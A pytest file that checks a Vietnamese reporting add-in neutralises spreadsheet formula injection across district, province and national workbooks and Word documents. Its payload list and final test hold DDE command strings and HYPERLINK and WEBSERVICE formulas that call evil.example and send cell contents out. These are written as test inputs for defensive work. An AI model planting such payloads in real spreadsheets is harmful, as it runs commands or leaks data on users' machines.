"""Formula injection through the whole chain: values typed by a CĐCS that Excel would take for a formula, a
link or DDE travel district → dossier → province → province package → national roll-up, and every
workbook and document written on the way holds them as plain text (read back from the files themselves)."""

from __future__ import annotations

import datetime as dt
import html
import random
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from addin.cdcs.annotate import annotate_copy
from addin.district.consolidate import consolidate_district
from addin.district.workbook import write_district_workbook
from addin.dossier.export import export_dossier
from addin.io.libreoffice import convert
from addin.province.consolidate import consolidate_province
from addin.province.letters import write_province_package
from addin.province.national import consolidate_national
from addin.province.workbook import write_province_workbook
from addin.sample.fastfill import fast_fill_workbook
from addin.sample.fill import valid_initiative, valid_unit_answers
from addin.sample.staff import mark_choices
from addin.cdcs.template.files import generate_templates
from addin.cdcs.validate import validate_file
from conftest import hash_files
from hostile_corpus import DISTRICT, make_registry
from validators.campaign import load_campaign
from validators.layout import SHEET_CHECK, SHEET_INITIATIVES

RUN = dt.datetime(2021, 4, 9, 9, 0, 0)
# What a hostile or careless unit types. Each must come out as exactly this text (after the validator's
# whitespace trim), never evaluated, never a link.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
    '=HYPERLINK("http://evil.example/x","bấm vào đây")',
    '=DDE("cmd";"/C calc";"x")',
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "-A1*10",
]
SHOWN = [p.strip() for p in PAYLOADS]  # the validator trims surrounding whitespace (a tab, a CR)
FORMULA_START = re.compile(r"^\s*[=+\-@]")
# The only formulas our writers put in a workbook: the live counter of marked nominations.
OWN_FORMULA = re.compile(r"^SUMPRODUCT\(--\(LEN\(TRIM\(\$A\$\d+:\$A\$\d+\)\)>0\)\)$")


@pytest.fixture(scope="module")
def chain(tmp_path_factory):
    campaign = load_campaign()
    registry = make_registry(campaign, n_units=3)
    root = tmp_path_factory.mktemp("chain")
    generate_templates(campaign, registry, root / "tpl", district_code=DISTRICT, include_blank=False)
    tpl = {p.name.split(" - ")[0]: p for p in (root / "tpl").rglob("*.xlsx")}
    inbox = root / "hop-thu" / DISTRICT
    inbox.mkdir(parents=True)
    rng = random.Random(7)
    payload = iter(PAYLOADS * 10)
    for n, c in enumerate(u for u in registry.cdcs if u.parent == DISTRICT):
        answers = valid_unit_answers(campaign, c, rng)
        answers.update({"NGUOI_LAP": next(payload), "PHONG_TRAO_DAC_THU": next(payload)})
        rows = []
        for i in range(2):
            r = valid_initiative(campaign, c, rng, number=i + 1, nominated=i == 0)
            r.update({"Tên sáng kiến": PAYLOADS[(2 * n + i) % len(PAYLOADS)], "Tác giả": next(payload),
                      "Chức vụ, nghề nghiệp": next(payload), "Đồng tác giả": next(payload), "Ghi chú": next(payload),
                      "Tóm tắt nội dung": next(payload), "Đã thẩm định": "Có", "Khiếu nại, tranh chấp": "Không"})
            rows.append(r)
        fast_fill_workbook(tpl[c.code], inbox / tpl[c.code].name, answers, rows)
    inputs = sorted(inbox.iterdir())
    before = hash_files(inputs)

    out: dict[str, Path] = {}
    result = consolidate_district(inbox, DISTRICT, campaign, registry, now=RUN)
    assert result.ledger["rows_consolidated"] == 6, result.ledger
    out["district workbook"] = write_district_workbook(result, root / "tong-hop.xlsx")
    chosen = [r.id for r in result.nominations][:2]
    assert len(chosen) == 2
    marked = mark_choices(out["district workbook"], root / "tong-hop-chon.xlsx", chosen)
    dossier = export_dossier(marked, root / "ho-so" / DISTRICT, campaign, registry, signed_on=dt.date(2021, 4, 8))
    out["Bảng tổng hợp"], out["Tờ trình"] = dossier.summary_path, dossier.to_trinh_path
    out["district package"] = dossier.package_path
    province = consolidate_province(root / "ho-so", campaign, registry, now=RUN)
    out["province workbook"] = write_province_workbook(province, root / "tinh" / "tong-hop-tinh.xlsx")
    out["province package"] = write_province_package(province, root / "tinh" / "goi" / "goi-du-lieu-DNO.xlsx",
                                                     signed_on=dt.date(2021, 4, 19))
    for p in sorted((root / "tinh" / "goi").iterdir()):
        out[f"province {p.suffix} {p.stem}"] = p
    national = consolidate_national(root / "tinh", campaign)
    report = validate_file(inputs[0], campaign, registry)
    out["annotated copy"] = annotate_copy(inputs[0], report, root / "chu-thich")
    assert hash_files(inputs) == before, "an input file changed"
    return campaign, result, province, national, out


def _xlsx_outputs(out):
    return {k: p for k, p in out.items() if p.suffix == ".xlsx"}


def test_every_output_was_written(chain):
    *_, out = chain
    kinds = {p.suffix for p in out.values()}
    assert kinds == {".xlsx", ".docx"}, out
    assert len(_xlsx_outputs(out)) >= 6 and sum(p.suffix == ".docx" for p in out.values()) >= 2


def test_no_formula_link_or_dde_in_any_workbook(chain):
    *_, out = chain
    for what, path in _xlsx_outputs(out).items():
        with zipfile.ZipFile(path) as z:
            names = z.namelist()
            assert not [n for n in names if "externalLink" in n or "connections" in n or n.endswith(".bin")], (what, names)
            for n in names:
                data = z.read(n)
                if n.startswith("xl/worksheets/sheet"):
                    for f in re.findall(rb"<f\b[^>]*>(.*?)</f>", data, re.S):
                        formula = html.unescape(f.decode())
                        assert not re.search(r"HYPERLINK|WEBSERVICE|DDE|cmd|\|", formula), (what, n, formula)
                        assert what == "annotated copy" or OWN_FORMULA.match(formula), (what, n, formula)
                    assert b"<hyperlink " not in data or b"evil" not in data, (what, n)
                if n.endswith(".rels"):
                    for target in re.findall(rb'Target="([^"]*)"', data):
                        assert b"evil" not in target and not target.lower().startswith((b"http", b"file:")), (what, n, target)
                assert b"ddeLink" not in data and b"ddeService" not in data, (what, n)


def test_payloads_are_text_cells_in_every_workbook(chain):
    """Each workbook that carries the units' text holds every payload as a string cell; a formula-like one
    has the quote prefix, so it stays text even when a user edits the cell."""
    *_, out = chain
    carriers = {"district workbook", "Bảng tổng hợp", "district package", "province workbook", "province package"}
    for what, path in _xlsx_outputs(out).items():
        wb = openpyxl.load_workbook(path)
        found = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    v = cell.value
                    if isinstance(v, str) and v.strip() in SHOWN:
                        assert cell.data_type == "s", (what, ws.title, cell.coordinate, v)
                        if what != "annotated copy":  # the unit's own cells are copied as the unit typed them
                            assert cell.quotePrefix, (what, ws.title, cell.coordinate, v)
                        found.add(v.strip())
                    elif cell.data_type == "f" and what == "annotated copy":
                        assert ws.title == SHEET_CHECK, (ws.title, cell.coordinate, v)  # the template's own checks
                    elif cell.data_type == "f":
                        assert isinstance(v, str) and OWN_FORMULA.match(v.lstrip("=")), (what, cell.coordinate, v)
                    if cell.hyperlink is not None:
                        target = str(cell.hyperlink.target or "")
                        assert "evil" not in target and not target.lower().startswith(("http", "file:")), target
        if what in carriers:
            # the titles of the nominated rows reach every level; the district workbook has them all
            expected = set(SHOWN) if what == "district workbook" else {SHOWN[0], SHOWN[2]}
            assert expected <= found, (what, sorted(expected - found))


def test_word_documents_hold_plain_text_only(chain):
    *_, out = chain
    docs = {k: p for k, p in out.items() if p.suffix == ".docx"}
    assert docs
    for what, path in docs.items():
        with zipfile.ZipFile(path) as z:
            parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}
        body = parts["word/document.xml"]
        assert "<w:fldSimple" not in body and "<w:instrText" not in body and "<w:hyperlink" not in body, what
        assert "w:fldChar" not in body, what
        for n, x in parts.items():
            for instr in re.findall(r"<w:instrText[^>]*>(.*?)</w:instrText>", x, re.S):
                assert instr.strip() == "PAGE", (what, n, instr)  # our page number is the only field
            assert "TargetMode=\"External\"" not in x, (what, n)
            assert "ddeLink" not in x and "DDEAUTO" not in x.upper(), (what, n)
        texts = html.unescape("".join(re.findall(r"<w:t(?:\s[^>]*)?>([^<]*)</w:t>", body)))
        if "Tờ trình" in what or "to-trinh" in path.name:
            assert SHOWN[0] in texts and SHOWN[2] in texts, (what, texts[:300])


def test_reports_carry_payloads_as_data(chain):
    _campaign, result, province, national, _out = chain
    titles = {r.item.title for r in result.initiatives}
    assert titles == set(SHOWN[:6]), titles
    accepted = {n["title"] for n in province.as_json()["nominations"]["accepted"]}
    assert accepted == {SHOWN[0], SHOWN[2]}, accepted
    assert {n["title"] for n in national.as_json()["nominations"]["accepted"]} == accepted


@pytest.mark.libreoffice
def test_libreoffice_shows_the_text_not_a_result(chain, tmp_path):
    """Opened and recalculated by a real spreadsheet, the Bảng tổng hợp shows "-1+2", not 1."""
    *_, out = chain
    csv = convert(out["Bảng tổng hợp"], "csv", tmp_path).read_text(encoding="utf-8")
    assert SHOWN[0] in csv and SHOWN[2] in csv, csv[:500]
    assert "#NAME?" not in csv and "Err:" not in csv


def test_annotated_copy_neutralises_formulas_the_unit_wrote(chain, tmp_path):
    """A unit's own formula cells (a link in the table, an outside call slipped into the check sheet, a
    hyperlink) do not survive into the annotated copy; the template's checks do."""
    campaign, result, *_ = chain
    from hostile_corpus import parts_of_bytes, sheet_part, zip_bytes

    src = result.files[0].path
    parts = parts_of_bytes(src.read_bytes())
    sk, check = sheet_part(parts, SHEET_INITIATIVES), sheet_part(parts, SHEET_CHECK)
    parts[sk] = re.sub(rb'<c r="E4"[^>]*?(?:/>|>.*?</c>)', b'<c r="E4" t="str"><f>HYPERLINK("http://evil.example/","x")'
                       b'</f><v>x</v></c>', parts[sk], count=1, flags=re.S)
    parts[check] = re.sub(rb"<f>[^<]*</f>", b"<f>WEBSERVICE(&quot;http://evil.example/&quot;)</f>", parts[check], count=1)
    hostile = tmp_path / src.name
    hostile.write_bytes(zip_bytes(parts))
    report = validate_file(hostile, campaign, make_registry(campaign, n_units=3))
    copy = annotate_copy(hostile, report, tmp_path / "out")
    wb = openpyxl.load_workbook(copy)
    assert wb[SHEET_INITIATIVES]["E4"].data_type == "s"
    assert wb[SHEET_INITIATIVES]["E4"].value.startswith("=HYPERLINK(") and wb[SHEET_INITIATIVES]["E4"].quotePrefix
    check_formulas = [c for row in wb[SHEET_CHECK].iter_rows() for c in row if c.data_type == "f"]
    texts = [c.value for row in wb[SHEET_CHECK].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("=WEBSERVICE(") for t in texts)
    assert len(check_formulas) >= 30 and not any("WEBSERVICE" in c.value for c in check_formulas)
